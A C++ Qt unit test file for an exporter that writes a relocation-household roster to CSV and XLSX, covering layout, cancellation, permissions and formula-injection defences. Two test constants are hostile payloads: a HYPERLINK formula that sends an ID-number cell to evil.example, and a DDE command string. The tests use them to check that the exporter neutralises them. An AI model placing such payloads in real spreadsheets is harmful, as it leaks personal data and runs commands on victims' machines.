#include "TestDatabase.h"

#include "exchange/RosterExporter.h"
#include "exchange/RosterLayout.h"
#include "exchange/XlsxRosterWriter.h"
#include "registry/RegistryService.h"
#include "registry/SiteService.h"

#include <QDir>
#include <QFile>
#include <QHash>
#include <QSqlError>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

#include <zip.h>

#ifdef Q_OS_UNIX
#include <sys/stat.h>
#endif

using namespace anju;
using namespace Qt::StringLiterals;
using anju::test::makeIdNumber;
using anju::test::makePerson;

namespace {

const QDate ReportDate(2026, 11, 28);

QString id(int year, int month, int day, int sequence)
{
    return makeIdNumber(QStringLiteral("430524"), QDate(year, month, day), sequence);
}

QString header()
{
    QStringList headers;
    for (const exchange::RosterFieldInfo& info : exchange::RosterLayout::fields())
        headers.append(info.header);
    return headers.join(QLatin1Char(','));
}

// One part of a zip file, or an empty array when it is missing.
QByteArray zipPart(const QString& path, const char* name)
{
    int error = 0;
    zip_t* archive = zip_open(QFile::encodeName(path).constData(), ZIP_RDONLY, &error);
    if (!archive)
        return {};
    QByteArray data;
    zip_stat_t stat;
    if (zip_stat(archive, name, 0, &stat) == 0) {
        if (zip_file_t* file = zip_fopen(archive, name, 0)) {
            data.resize(qsizetype(stat.size));
            if (zip_fread(file, data.data(), stat.size) != zip_int64_t(stat.size))
                data.clear();
            zip_fclose(file);
        }
    }
    zip_close(archive);
    return data;
}

struct SheetCell
{
    QString type; // the t attribute: inlineStr, s, str, or empty for a number
    QString value;
};

// The cells (by reference, "A1") and merged ranges of a worksheet part; shared strings resolved.
struct Sheet
{
    QHash<QString, SheetCell> cells;
    QStringList merges;
    QString text(const QString& ref) const { return cells.value(ref).value; }
};

Sheet readSheet(const QString& path, const char* part)
{
    QStringList shared;
    QXmlStreamReader strings(zipPart(path, "xl/sharedStrings.xml"));
    while (strings.readNextStartElement() || !strings.atEnd()) {
        if (strings.isStartElement() && strings.name() == QLatin1String("si"))
            shared.append(QString());
        else if (strings.isStartElement() && strings.name() == QLatin1String("t") && !shared.isEmpty())
            shared.last() += strings.readElementText();
        else
            strings.readNext();
    }

    Sheet sheet;
    QXmlStreamReader xml(zipPart(path, part));
    QString ref;
    while (!xml.atEnd()) {
        xml.readNext();
        if (!xml.isStartElement())
            continue;
        if (xml.name() == QLatin1String("c")) {
            ref = xml.attributes().value(QLatin1String("r")).toString();
            sheet.cells[ref].type = xml.attributes().value(QLatin1String("t")).toString();
        } else if (xml.name() == QLatin1String("t") || xml.name() == QLatin1String("v")) {
            SheetCell& cell = sheet.cells[ref];
            const QString text = xml.readElementText();
            cell.value = cell.type == QLatin1String("s") ? shared.value(text.toInt()) : text;
        } else if (xml.name() == QLatin1String("mergeCell")) {
            sheet.merges.append(xml.attributes().value(QLatin1String("ref")).toString());
        }
    }
    return sheet;
}

qint64 memberId(const Household& household, const QString& name)
{
    for (const Person& person : household.members) {
        if (person.name == name)
            return person.id;
    }
    return 0;
}

// The fields of one CSV line (RFC 4180: "" inside quotes is one quote).
QStringList csvFields(const QString& line)
{
    QStringList fields(1);
    bool quoted = false;
    for (qsizetype i = 0; i < line.size(); ++i) {
        const QChar c = line.at(i);
        if (quoted && c == u'"' && i + 1 < line.size() && line.at(i + 1) == u'"') {
            fields.last().append(c);
            ++i;
        } else if (c == u'"') {
            quoted = !quoted;
        } else if (c == u',' && !quoted) {
            fields.append(QString());
        } else {
            fields.last().append(c);
        }
    }
    return fields;
}

// Text a spreadsheet would run as a formula, as the importer accepts it in free-text columns.
const QString Hyperlink = u"=HYPERLINK(\"http://evil.example/?\"&J4,\"点我\")"_s;
const QString Dde = u"@SUM(1+1)*cmd|' /C calc'!A0"_s;

// Read and written by its owner, nobody else.
bool ownerOnly(const QString& path)
{
    const QFileDevice::Permissions others = QFileDevice::ReadGroup | QFileDevice::WriteGroup |
                                            QFileDevice::ExeGroup | QFileDevice::ReadOther |
                                            QFileDevice::WriteOther | QFileDevice::ExeOther;
    const QFileDevice::Permissions p = QFile::permissions(path);
    return (p & others) == 0 && p.testFlag(QFileDevice::ReadOwner) && p.testFlag(QFileDevice::WriteOwner);
}

QString serial(QDate date)
{
    return QString::number(QDate(1899, 12, 30).daysTo(date));
}

} // namespace

class TestRosterExporter : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void csvHasExactLines();
    void csvActiveOnly();
    void csvBySite();
    void xlsxLayout();
    void xlsxBySiteNamesTheSite();
    void xlsxContinuesOnANewSheet();
    void progressAndCancelLeaveNoFile_data();
    void progressAndCancelLeaveNoFile();
    void refusesWhatCannotBeWritten();
    void csvNeutralisesFormulas();
    void xlsxKeepsFormulaTextAsText();
    void exportIsOwnerOnly_data();
    void exportIsOwnerOnly();

private:
    Outcome exportTo(const QString& name, qint64 siteId = 0, bool includeFormer = true);
    QString out(const QString& name) const { return m_out.filePath(name); }
    QStringList csvLines(const QString& name) const;
    void addManyHouseholds(int count);

    std::unique_ptr<test::TestDatabase> m_db;
    QTemporaryDir m_out;
    qint64 m_secondSite = 0;
    QStringList m_ids; // in roster order
};

void TestRosterExporter::init()
{
    m_db = std::make_unique<test::TestDatabase>();
    QVERIFY(m_out.isValid());
    for (const QString& name : QDir(m_out.path()).entryList(QDir::Files | QDir::Hidden))
        QFile::remove(m_out.filePath(name));

    registry::SiteService sites(m_db->db());
    Site second;
    second.code = QStringLiteral("430524002");
    second.name = QStringLiteral("幸福家园");
    second.countyCode = QStringLiteral("430524");
    const Result<Site> savedSite = sites.saveSite(second);
    QVERIFY2(savedSite, qPrintable(savedSite.summary()));
    m_secondSite = savedSite.value().id;

    registry::RegistryService registry(m_db->db());
    // Site 1, household 1: four members, the son moved away. Listed head, spouse, then by birth date.
    Household first;
    first.number = QStringLiteral("430524001-0001");
    first.siteId = m_db->siteId();
    first.dwellingId = m_db->dwellingId();
    first.originCountyCode = QStringLiteral("430524");
    first.originTownship = QStringLiteral("荷香桥镇");
    first.originVillage = QStringLiteral("石门村,三组"); // a comma, to be quoted in CSV
    first.relocationDate = QDate(2019, 9, 1);
    first.phone = QStringLiteral("13907391234");
    Person spouse = makePerson(QStringLiteral("李芳"), id(1978, 8, 9, 2), Relationship::Spouse);
    spouse.education = Education::JuniorSecondary;
    Person daughter = makePerson(QStringLiteral("王丽"), id(2001, 5, 20, 4), Relationship::Daughter);
    daughter.education = Education::Bachelor;
    daughter.phone = QStringLiteral("13800001111");
    first.members = {
        makePerson(QStringLiteral("王磊"), id(2005, 1, 30, 3), Relationship::Son),
        makePerson(QStringLiteral("王建国"), id(1975, 4, 2, 1), Relationship::Head),
        spouse,
        daughter,
    };
    const Result<Household> savedFirst = registry.saveHousehold(first);
    QVERIFY2(savedFirst, qPrintable(savedFirst.summary()));
    const Outcome movedOut =
        registry.moveOut(memberId(savedFirst.value(), QStringLiteral("王磊")), QDate(2024, 3, 1));
    QVERIFY2(movedOut, qPrintable(movedOut.summary()));

    // Site 1, household 2: one Miao member, no dwelling yet.
    Household second1;
    second1.number = QStringLiteral("430524001-0002");
    second1.siteId = m_db->siteId();
    second1.originCountyCode = QStringLiteral("430524");
    second1.relocationDate = QDate(2020, 1, 15);
    Person alone = makePerson(QStringLiteral("赵大勇"), id(1950, 12, 1, 5), Relationship::Head);
    alone.ethnicityCode = QStringLiteral("06");
    alone.health = Health::Disabled;
    alone.labourCapacity = LabourCapacity::Lost;
    alone.phone = QStringLiteral("07394561234");
    second1.members = {alone};
    const Result<Household> savedSecond = registry.saveHousehold(second1);
    QVERIFY2(savedSecond, qPrintable(savedSecond.summary()));

    // Site 2: a head whose mother died, and a household whose only member moved away.
    Household third;
    third.number = QStringLiteral("430524002-0001");
    third.siteId = m_secondSite;
    third.originCountyCode = QStringLiteral("430525");
    third.relocationDate = QDate(2021, 3, 1);
    third.members = {makePerson(QStringLiteral("陈华"), id(1980, 2, 29, 6), Relationship::Head),
                     makePerson(QStringLiteral("刘梅"), id(1940, 7, 7, 8), Relationship::Parent)};
    const Result<Household> savedThird = registry.saveHousehold(third);
    QVERIFY2(savedThird, qPrintable(savedThird.summary()));
    const Outcome died =
        registry.markDeceased(memberId(savedThird.value(), QStringLiteral("刘梅")), QDate(2023, 5, 6));
    QVERIFY2(died, qPrintable(died.summary()));

    Household fourth;
    fourth.number = QStringLiteral("430524002-0002");
    fourth.siteId = m_secondSite;
    fourth.originCountyCode = QStringLiteral("430523");
    fourth.relocationDate = QDate(2022, 7, 1);
    fourth.members = {makePerson(QStringLiteral("孙强"), id(1990, 10, 10, 9), Relationship::Head)};
    const Result<Household> savedFourth = registry.saveHousehold(fourth);
    QVERIFY2(savedFourth, qPrintable(savedFourth.summary()));
    const Outcome left = registry.moveOut(savedFourth.value().members.at(0).id, QDate(2025, 6, 30));
    QVERIFY2(left, qPrintable(left.summary()));

    m_ids = {id(1975, 4, 2, 1),  id(1978, 8, 9, 2),  id(2001, 5, 20, 4), id(2005, 1, 30, 3),
             id(1950, 12, 1, 5), id(1980, 2, 29, 6), id(1940, 7, 7, 8),  id(1990, 10, 10, 9)};
}

Outcome TestRosterExporter::exportTo(const QString& name, qint64 siteId, bool includeFormer)
{
    exchange::RosterExportOptions options;
    options.path = out(name);
    options.siteId = siteId;
    options.includeFormer = includeFormer;
    options.reportingUnit = QStringLiteral("邵阳县易地扶贫搬迁办公室");
    options.date = ReportDate;
    return exchange::RosterExporter(m_db->db()).exportRoster(options);
}

QStringList TestRosterExporter::csvLines(const QString& name) const
{
    QFile file(out(name));
    if (!file.open(QIODevice::ReadOnly))
        return {};
    QByteArray bytes = file.readAll();
    if (!bytes.startsWith("\xEF\xBB\xBF"))
        return {QStringLiteral("(no BOM)")};
    bytes.remove(0, 3);
    QStringList lines = QString::fromUtf8(bytes).split(QStringLiteral("\r\n"));
    if (lines.isEmpty() || !lines.takeLast().isEmpty())
        return {QStringLiteral("(no CRLF at the end)")};
    // The first line warns that the file holds personal information; the roster follows it.
    if (lines.isEmpty() || !lines.takeFirst().contains(QStringLiteral("personal information")))
        return {QStringLiteral("(no personal-information notice on the first line)")};
    return lines;
}

void TestRosterExporter::csvHasExactLines()
{
    const Outcome outcome = exportTo(QStringLiteral("roster.csv"));
    QVERIFY2(outcome, qPrintable(outcome.summary()));
    const QStringList expected = {
        header(),
        u"1,430524001-0001,测试安置点,430524001,1栋,1,101,王建国,户主,"_s + m_ids[0] +
            u",男,1975-04-02,汉族,,健康,普通劳动力,,430524,荷香桥镇,\"石门村,三组\",2019-09-01,13907391234,在册,"_s,
        u"1,430524001-0001,测试安置点,430524001,1栋,1,101,李芳,配偶,"_s + m_ids[1] +
            u",女,1978-08-09,汉族,初中,健康,普通劳动力,,430524,荷香桥镇,\"石门村,三组\",2019-09-01,13907391234,在册,"_s,
        u"1,430524001-0001,测试安置点,430524001,1栋,1,101,王丽,女,"_s + m_ids[2] +
            u",女,2001-05-20,汉族,本科,健康,普通劳动力,13800001111,430524,荷香桥镇,\"石门村,三组\",2019-09-01,13907391234,在册,"_s,
        u"1,430524001-0001,测试安置点,430524001,1栋,1,101,王磊,子,"_s + m_ids[3] +
            u",男,2005-01-30,汉族,,健康,普通劳动力,,430524,荷香桥镇,\"石门村,三组\",2019-09-01,13907391234,迁出,2024-03-01"_s,
        u"2,430524001-0002,测试安置点,430524001,,,,赵大勇,户主,"_s + m_ids[4] +
            u",男,1950-12-01,苗族,,残疾,丧失劳动力,07394561234,430524,,,2020-01-15,,在册,"_s,
        u"3,430524002-0001,幸福家园,430524002,,,,陈华,户主,"_s + m_ids[5] +
            u",女,1980-02-29,汉族,,健康,普通劳动力,,430525,,,2021-03-01,,在册,"_s,
        u"3,430524002-0001,幸福家园,430524002,,,,刘梅,父母,"_s + m_ids[6] +
            u",女,1940-07-07,汉族,,健康,普通劳动力,,430525,,,2021-03-01,,死亡,2023-05-06"_s,
        u"4,430524002-0002,幸福家园,430524002,,,,孙强,户主,"_s + m_ids[7] +
            u",男,1990-10-10,汉族,,健康,普通劳动力,,430523,,,2022-07-01,,迁出,2025-06-30"_s,
    };
    const QStringList lines = csvLines(QStringLiteral("roster.csv"));
    QCOMPARE(lines.size(), expected.size());
    for (qsizetype i = 0; i < lines.size(); ++i)
        QCOMPARE(lines.at(i), expected.at(i));
}

void TestRosterExporter::csvActiveOnly()
{
    exchange::RosterExporter exporter(m_db->db());
    exchange::RosterExportOptions options;
    options.path = out(QStringLiteral("active.csv"));
    options.includeFormer = false;
    QVERIFY(exporter.exportRoster(options));
    QCOMPARE(exporter.counts().households, 3);
    QCOMPARE(exporter.counts().persons, 5);
    QCOMPARE(exporter.counts().formerPersons, 0);
    const QStringList lines = csvLines(QStringLiteral("active.csv"));
    QCOMPARE(lines.size(), 6);
    const QString all = lines.join(QLatin1Char('\n'));
    for (const QString& gone : {m_ids[3], m_ids[6], m_ids[7]})
        QVERIFY2(!all.contains(gone), qPrintable(gone));
    QVERIFY(!all.contains(u"430524002-0002"_s)); // its only member left
    QVERIFY(lines.at(5).startsWith(u"3,430524002-0001,幸福家园,"_s));
}

void TestRosterExporter::csvBySite()
{
    exchange::RosterExporter exporter(m_db->db());
    exchange::RosterExportOptions options;
    options.path = out(QStringLiteral("site.csv"));
    options.siteId = m_secondSite;
    QVERIFY(exporter.exportRoster(options));
    QCOMPARE(exporter.counts().households, 2);
    QCOMPARE(exporter.counts().persons, 3);
    QCOMPARE(exporter.counts().formerPersons, 2);
    const QStringList lines = csvLines(QStringLiteral("site.csv"));
    QCOMPARE(lines.size(), 4);
    QCOMPARE(lines.at(0), header());
    QVERIFY(lines.at(1).startsWith(u"1,430524002-0001,幸福家园,"_s));
    QVERIFY(lines.at(2).startsWith(u"1,430524002-0001,幸福家园,"_s));
    QVERIFY(lines.at(3).startsWith(u"2,430524002-0002,幸福家园,"_s));
}

void TestRosterExporter::xlsxLayout()
{
    const Outcome outcome = exportTo(QStringLiteral("roster.xlsx"));
    QVERIFY2(outcome, qPrintable(outcome.summary()));
    const Sheet sheet = readSheet(out(QStringLiteral("roster.xlsx")), "xl/worksheets/sheet1.xml");
    QVERIFY(!sheet.cells.isEmpty());

    QCOMPARE(sheet.text(u"A1"_s), u"易地扶贫搬迁户花名册"_s);
    QCOMPARE(sheet.text(u"A2"_s), u"填报单位：邵阳县易地扶贫搬迁办公室"_s);
    QCOMPARE(sheet.text(u"M2"_s), u"填报日期：2026年11月28日"_s);
    const QList<exchange::RosterFieldInfo>& fields = exchange::RosterLayout::fields();
    for (int column = 0; column < fields.size(); ++column)
        QCOMPARE(sheet.text(QLatin1Char(char('A' + column)) + u"3"_s), fields.at(column).header);

    // Persons from row 4 in roster order; ID numbers are strings, never numbers.
    for (int i = 0; i < m_ids.size(); ++i) {
        const QString ref = u"J"_s + QString::number(4 + i);
        QCOMPARE(sheet.text(ref), m_ids.at(i));
        QVERIFY2(sheet.cells.value(ref).type == u"inlineStr"_s || sheet.cells.value(ref).type == u"s"_s,
                 qPrintable(ref));
    }
    QCOMPARE(sheet.text(u"H4"_s), u"王建国"_s);
    QCOMPARE(sheet.text(u"I5"_s), u"配偶"_s);
    QCOMPARE(sheet.text(u"M8"_s), u"苗族"_s);
    QCOMPARE(sheet.text(u"W7"_s), u"迁出"_s);
    // Dates are numbers (Excel serial days) with a date format, not text.
    QCOMPARE(sheet.cells.value(u"L4"_s).type, QString());
    QCOMPARE(sheet.text(u"L4"_s), serial(QDate(1975, 4, 2)));
    QCOMPARE(sheet.text(u"X7"_s), serial(QDate(2024, 3, 1)));
    QCOMPARE(sheet.text(u"U4"_s), serial(QDate(2019, 9, 1)));
    QVERIFY(
        zipPart(out(QStringLiteral("roster.xlsx")), "xl/styles.xml").contains("formatCode=\"yyyy-mm-dd\""));
    // The household's values stand in its first row only.
    QCOMPARE(sheet.text(u"A4"_s), u"1"_s);
    QCOMPARE(sheet.text(u"B4"_s), u"430524001-0001"_s);
    QCOMPARE(sheet.text(u"B5"_s), QString());
    QCOMPARE(sheet.text(u"A9"_s), u"3"_s);

    // Household columns are merged over their members' rows: rows 4-7, 9-10; the one-person rows 8 and
    // 11 are not merged.
    QStringList expectedMerges = {u"A1:X1"_s, u"A2:L2"_s, u"M2:X2"_s};
    for (const char* column : {"A", "B", "C", "D", "E", "F", "G", "R", "S", "T", "U", "V"})
        expectedMerges << QLatin1String(column) + u"4:"_s + QLatin1String(column) + u"7"_s;
    for (const char* column : {"A", "B", "C", "D", "E", "F", "G", "R", "S", "T", "U", "V"})
        expectedMerges << QLatin1String(column) + u"9:"_s + QLatin1String(column) + u"10"_s;
    expectedMerges << u"A12:X12"_s << u"A13:X13"_s;
    QCOMPARE(sheet.merges, expectedMerges);

    QCOMPARE(sheet.text(u"A12"_s), u"合计：4户 8人"_s);
    QVERIFY(sheet.text(u"A13"_s).startsWith(u"填表人："_s));
    QVERIFY(sheet.text(u"A13"_s).contains(u"审核人："_s));
    QVERIFY(sheet.text(u"A13"_s).contains(u"负责人："_s));

    // Print setup: header rows repeated, A4 landscape, one page wide; panes frozen below the header.
    const QByteArray workbook = zipPart(out(QStringLiteral("roster.xlsx")), "xl/workbook.xml");
    QVERIFY2(workbook.contains("_xlnm.Print_Titles"), workbook.constData());
    const QByteArray xml = zipPart(out(QStringLiteral("roster.xlsx")), "xl/worksheets/sheet1.xml");
    QVERIFY(xml.contains("orientation=\"landscape\""));
    QVERIFY(xml.contains("paperSize=\"9\""));
    QVERIFY(xml.contains("fitToHeight=\"0\""));
    QVERIFY(xml.contains("ySplit=\"3\""));
}

void TestRosterExporter::xlsxBySiteNamesTheSite()
{
    QVERIFY(exportTo(QStringLiteral("site.xlsx"), m_secondSite));
    const Sheet sheet = readSheet(out(QStringLiteral("site.xlsx")), "xl/worksheets/sheet1.xml");
    QCOMPARE(sheet.text(u"A1"_s), u"易地扶贫搬迁户花名册（幸福家园）"_s);
    QCOMPARE(sheet.text(u"A4"_s), u"1"_s);
    QCOMPARE(sheet.text(u"B4"_s), u"430524002-0001"_s);
    QCOMPARE(sheet.text(u"J6"_s), m_ids[7]);
    QCOMPARE(sheet.text(u"A7"_s), u"合计：2户 3人"_s);
}

void TestRosterExporter::xlsxContinuesOnANewSheet()
{
    // Sheets of 9 rows: heading (3) + 4 persons + footer (2). Households of 2, 3, 2 persons: the second
    // does not fit after the first and starts sheet 2; a household is never split.
    exchange::XlsxRosterWriter writer(9);
    exchange::RosterHeading heading;
    heading.date = ReportDate;
    const QString path = out(QStringLiteral("continued.xlsx"));
    QVERIFY(writer.open(path, heading));
    int next = 1;
    for (int size : {2, 3, 2}) {
        exchange::RosterHouseholdRows household;
        household.number = QStringLiteral("H%1").arg(next);
        for (int i = 0; i < size; ++i) {
            exchange::RosterMemberRow member;
            member.name = QStringLiteral("P%1-%2").arg(next).arg(i);
            member.relationship = i == 0 ? Relationship::Head : Relationship::Son;
            household.members.append(member);
        }
        QVERIFY2(writer.write(household), qPrintable(writer.error()));
        ++next;
    }
    QVERIFY2(writer.finish({3, 7}), qPrintable(writer.error()));

    const Sheet first = readSheet(path, "xl/worksheets/sheet1.xml");
    const Sheet second = readSheet(path, "xl/worksheets/sheet2.xml");
    const Sheet third = readSheet(path, "xl/worksheets/sheet3.xml");
    QCOMPARE(first.text(u"B4"_s), u"H1"_s);
    QCOMPARE(first.text(u"H6"_s), QString()); // nothing after the first household
    QCOMPARE(second.text(u"A1"_s), u"易地扶贫搬迁户花名册（续）"_s);
    QCOMPARE(second.text(u"B3"_s), u"户编号"_s);
    QCOMPARE(second.text(u"A4"_s), u"2"_s); // the sequence goes on
    QCOMPARE(second.text(u"H6"_s), u"P2-2"_s);
    QCOMPARE(third.text(u"B4"_s), u"H3"_s);
    QCOMPARE(third.text(u"A6"_s), u"合计：3户 7人"_s);
    QVERIFY(first.text(u"A6"_s).isEmpty()); // the totals stand once, at the end
    QVERIFY(zipPart(path, "xl/workbook.xml").contains("name=\"花名册2\""));
}

void TestRosterExporter::addManyHouseholds(int count)
{
    registry::RegistryService registry(m_db->db());
    for (int i = 0; i < count; ++i) {
        Household h;
        h.number = QStringLiteral("430524001-%1").arg(100 + i, 4, 10, QLatin1Char('0'));
        h.siteId = m_db->siteId();
        h.originCountyCode = QStringLiteral("430522");
        h.relocationDate = QDate(2020, 5, 1);
        h.members = {makePerson(QStringLiteral("甲乙"),
                                makeIdNumber(QStringLiteral("430522"), QDate(1960, 1, 1).addDays(i), 100),
                                Relationship::Head),
                     makePerson(QStringLiteral("丙丁"),
                                makeIdNumber(QStringLiteral("430522"), QDate(1960, 1, 1).addDays(i), 101),
                                Relationship::Spouse),
                     makePerson(QStringLiteral("戊己"),
                                makeIdNumber(QStringLiteral("430522"), QDate(1990, 1, 1).addDays(i), 102),
                                Relationship::Son)};
        const Result<Household> saved = registry.saveHousehold(h);
        QVERIFY2(saved, qPrintable(saved.summary()));
    }
}

void TestRosterExporter::progressAndCancelLeaveNoFile_data()
{
    QTest::addColumn<QString>("name");
    QTest::newRow("xlsx") << QStringLiteral("big.xlsx");
    QTest::newRow("csv") << QStringLiteral("big.csv");
}

void TestRosterExporter::progressAndCancelLeaveNoFile()
{
    QFETCH(QString, name);
    addManyHouseholds(700); // 2,100 persons, so progress is reported on the way
    const qint64 total = 2100 + 8;

    // Completed: progress rises to the total, the last call says done.
    QList<qint64> seen;
    exchange::RosterExportOptions options;
    options.path = out(name);
    options.progress = [&seen, total](qint64 done, qint64 all) {
        if (all != total)
            return false;
        seen.append(done);
        return true;
    };
    exchange::RosterExporter exporter(m_db->db());
    const Outcome done = exporter.exportRoster(options);
    QVERIFY2(done, qPrintable(done.summary()));
    QVERIFY(seen.size() >= 3);
    QCOMPARE(seen.constFirst(), 0);
    QCOMPARE(seen.constLast(), total);
    QVERIFY(std::is_sorted(seen.cbegin(), seen.cend()));
    QVERIFY(QFile::exists(options.path));
    QCOMPARE(exporter.counts().persons, total);

    // Cancelled half-way: no file, no leftover partial file, and an earlier file is left as it was.
    QFile earlier(options.path);
    QVERIFY(earlier.open(QIODevice::WriteOnly | QIODevice::Truncate));
    earlier.write("earlier");
    earlier.close();
    options.progress = [](qint64 doneSoFar, qint64) { return doneSoFar < 1000; };
    const Outcome cancelled = exporter.exportRoster(options);
    QVERIFY(!cancelled);
    QVERIFY(exporter.wasCancelled());
    QVERIFY(earlier.open(QIODevice::ReadOnly));
    QCOMPARE(earlier.readAll(), QByteArray("earlier"));
    earlier.close();
    QFile::remove(options.path);
    QVERIFY(exporter.exportRoster(options).violations().size() == 1);
    QCOMPARE(QDir(m_out.path()).entryList(QDir::Files | QDir::Hidden), QStringList());
}

void TestRosterExporter::refusesWhatCannotBeWritten()
{
    exchange::RosterExporter exporter(m_db->db());
    exchange::RosterExportOptions options;

    options.path = out(QStringLiteral("no-such-folder/roster.xlsx"));
    Outcome outcome = exporter.exportRoster(options);
    QVERIFY(!outcome);
    QVERIFY2(outcome.summary().contains(QStringLiteral("roster.xlsx")), qPrintable(outcome.summary()));

    // A folder whose "parent" is a file cannot be written into, whoever runs the test (even root).
    QFile file(out(QStringLiteral("plain-file")));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.close();
    for (const char* suffix : {"/roster.csv", "/roster.xlsx"}) {
        options.path = file.fileName() + QLatin1String(suffix);
        outcome = exporter.exportRoster(options);
        QVERIFY2(!outcome, suffix);
        QVERIFY(!outcome.summary().isEmpty());
    }

    options.path = m_out.path();
    QVERIFY(!exporter.exportRoster(options));

    options.path = out(QStringLiteral("roster.txt"));
    outcome = exporter.exportRoster(options);
    QVERIFY(!outcome);
    QVERIFY2(outcome.summary().contains(QStringLiteral(".xlsx")), qPrintable(outcome.summary()));
    QVERIFY(!QFile::exists(options.path));

    options.path = out(QStringLiteral("gone.csv"));
    options.siteId = 999999;
    QVERIFY(!exporter.exportRoster(options));
    QVERIFY(!QFile::exists(options.path));
}

// Formula injection (OWASP "CSV Injection"): every text cell that a spreadsheet would take for a formula
// is written with a leading ' in CSV; numbers and dates, which Anju writes itself, are left alone.
void TestRosterExporter::csvNeutralisesFormulas()
{
    QSqlQuery q(m_db->db().connection());
    const auto update = [&q](const QString& sql, const QVariantList& values) {
        q.prepare(sql);
        for (const QVariant& value : values)
            q.addBindValue(value);
        return q.exec();
    };
    QVERIFY(
        update(u"UPDATE households SET origin_township = ?, origin_village = ?, phone = ? WHERE number = ?"_s,
               {Hyperlink, Dde, u"+86 139 0739 1234"_s, u"430524001-0001"_s}));
    QVERIFY(update(u"UPDATE households SET origin_township = ?, origin_village = ? WHERE number = ?"_s,
                   {u"-1+1"_s, u"\t=1+1"_s, u"430524001-0002"_s}));
    QVERIFY(update(u"UPDATE households SET origin_township = ?, origin_village = ? WHERE number = ?"_s,
                   {u"\r=1+1"_s, u"'=1+1"_s, u"430524002-0001"_s}));
    QVERIFY(update(u"UPDATE sites SET name = ? WHERE id = ?"_s, {u"=1+2"_s, m_secondSite}));
    QVERIFY2(q.lastError().text().isEmpty(), qPrintable(q.lastError().text()));

    const Outcome outcome = exportTo(QStringLiteral("roster.csv"));
    QVERIFY2(outcome, qPrintable(outcome.summary()));
    const QStringList lines = csvLines(QStringLiteral("roster.csv"));
    QCOMPARE(lines.size(), 9);
    const int township = int(exchange::RosterField::OriginTownship);
    const int village = int(exchange::RosterField::OriginVillage);
    const int site = int(exchange::RosterField::Site);
    const QStringList first = csvFields(lines.at(1));
    QCOMPARE(first.size(), exchange::RosterFieldCount);
    QCOMPARE(first.at(township), u"'"_s + Hyperlink);
    QCOMPARE(first.at(village), u"'"_s + Dde);
    QCOMPARE(first.at(int(exchange::RosterField::HouseholdPhone)), u"'+86 139 0739 1234"_s);
    QCOMPARE(first.at(int(exchange::RosterField::Sequence)), u"1"_s); // a number Anju writes stays a number
    QCOMPARE(first.at(int(exchange::RosterField::BirthDate)), u"1975-04-02"_s);
    const QStringList second = csvFields(lines.at(5));
    QCOMPARE(second.at(township), u"'-1+1"_s);
    QCOMPARE(second.at(village), u"'\t=1+1"_s);
    QVERIFY2(lines.at(5).contains(u",\"'\t=1+1\","_s), qPrintable(lines.at(5))); // quoted too
    const QStringList third = csvFields(lines.at(6));
    QCOMPARE(third.at(township), u"'\r=1+1"_s);
    // Text that already starts with ' before a formula character gets one more, so the importer's
    // rule (take one ' off such a cell) gives it back exactly.
    QCOMPARE(third.at(village), u"''=1+1"_s);
    QCOMPARE(third.at(site), u"'=1+2"_s);
    // No cell anywhere starts with what a spreadsheet runs.
    for (const QString& line : lines) {
        for (const QString& field : csvFields(line)) {
            QVERIFY2(field.isEmpty() || !QStringLiteral("=+-@\t\r").contains(field.front()),
                     qPrintable(field));
        }
    }
}

// The .xlsx writes every text as an inline string, which Excel never evaluates: no ' is added there.
void TestRosterExporter::xlsxKeepsFormulaTextAsText()
{
    QSqlQuery q(m_db->db().connection());
    q.prepare(u"UPDATE households SET origin_township = ?, origin_village = ? WHERE number = ?"_s);
    q.addBindValue(Hyperlink);
    q.addBindValue(Dde);
    q.addBindValue(u"430524001-0001"_s);
    QVERIFY2(q.exec(), qPrintable(q.lastError().text()));
    const Outcome outcome = exportTo(QStringLiteral("roster.xlsx"));
    QVERIFY2(outcome, qPrintable(outcome.summary()));
    const Sheet sheet = readSheet(out(QStringLiteral("roster.xlsx")), "xl/worksheets/sheet1.xml");
    QCOMPARE(sheet.text(u"S4"_s), Hyperlink);
    QCOMPARE(sheet.cells.value(u"S4"_s).type, u"inlineStr"_s);
    QCOMPARE(sheet.text(u"T4"_s), Dde);
    QCOMPARE(sheet.cells.value(u"T4"_s).type, u"inlineStr"_s);
    const QByteArray xml = zipPart(out(QStringLiteral("roster.xlsx")), "xl/worksheets/sheet1.xml");
    QVERIFY(!xml.contains("<f>") && !xml.contains("<f "));
}

void TestRosterExporter::exportIsOwnerOnly_data()
{
    QTest::addColumn<QString>("fileName");
    QTest::newRow("csv") << u"roster.csv"_s;
    QTest::newRow("xlsx") << u"roster.xlsx"_s;
}

// A roster holds ID numbers and phones: only its owner may read it, whatever the umask says.
void TestRosterExporter::exportIsOwnerOnly()
{
#ifdef Q_OS_UNIX
    QFETCH(QString, fileName);
    const mode_t previous = ::umask(022);
    const Outcome outcome = exportTo(fileName);
    ::umask(previous);
    QVERIFY2(outcome, qPrintable(outcome.summary()));
    QVERIFY2(ownerOnly(out(fileName)),
             qPrintable(QString::number(QFile::permissions(out(fileName)).toInt(), 16)));
    // Replacing an existing, readable file makes it owner-only too.
    QVERIFY(QFile::setPermissions(out(fileName), QFileDevice::ReadOwner | QFileDevice::WriteOwner |
                                                     QFileDevice::ReadGroup | QFileDevice::ReadOther));
    QVERIFY(exportTo(fileName));
    QVERIFY2(ownerOnly(out(fileName)),
             qPrintable(QString::number(QFile::permissions(out(fileName)).toInt(), 16)));
#else
    QSKIP("Unix file modes");
#endif
}

QTEST_GUILESS_MAIN(TestRosterExporter)
#include "tst_rosterexporter.moc"
